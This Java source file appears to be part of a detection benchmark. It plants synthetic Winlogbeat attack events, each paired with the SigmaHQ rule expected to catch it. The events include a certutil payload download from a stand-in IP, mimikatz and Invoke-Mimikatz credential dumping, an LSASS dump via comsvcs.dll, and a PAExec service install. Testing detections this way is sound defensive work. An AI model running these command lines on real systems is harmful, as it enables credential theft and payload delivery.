package io.alertas.runner.bench;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Instant;
import java.util.List;

/**
 * The handful of attacks planted among the benchmark's ordinary events, each as Winlogbeat 8 would index it, with
 * the SigmaHQ rule that should catch it: the benchmark's pass must deliver at least these.
 */
final class WinlogbeatAttacks {

    /** A planted event and the SigmaHQ rule file (without .yml) it should fire. */
    record Attack(String rule, ObjectNode event) {
    }

    private WinlogbeatAttacks() {
    }

    /** The attacks, on host {@code host} of {@code events}' fleet, at {@code at}. */
    static List<Attack> at(WinlogbeatEvents events, int host, Instant at) {
        String user = "olga.novak";
        return List.of(
                new Attack("proc_creation_win_certutil_download", events.processCreate(at, host, user,
                        "C:\\Windows\\System32\\certutil.exe",
                        "certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin C:\\Users\\Public\\p.bin",
                        "C:\\Windows\\System32\\cmd.exe")),
                new Attack("proc_creation_win_hktl_mimikatz_command_line", events.processCreate(at.plusMillis(900), host, user,
                        "C:\\Users\\Public\\m64.exe", "m64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
                        "C:\\Windows\\System32\\cmd.exe")),
                new Attack("proc_creation_win_rundll32_process_dump_via_comsvcs", events.processCreate(at.plusMillis(1700), host,
                        "SYSTEM", "C:\\Windows\\System32\\rundll32.exe",
                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full",
                        "C:\\Windows\\System32\\cmd.exe")),
                new Attack("proc_creation_win_whoami_priv_discovery", events.processCreate(at.plusMillis(2500), host, user,
                        "C:\\Windows\\System32\\whoami.exe", "whoami /priv", "C:\\Windows\\System32\\cmd.exe")),
                new Attack("posh_ps_potential_invoke_mimikatz", events.scriptBlock(at.plusMillis(3100), host, user,
                        "Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'")),
                new Attack("win_system_service_install_paexec", events.serviceInstall(at.plusMillis(4200), host + 1,
                        "PAExec-4512-WS0042", "C:\\WINDOWS\\PAExec-4512-WS0042.exe")));
    }
}
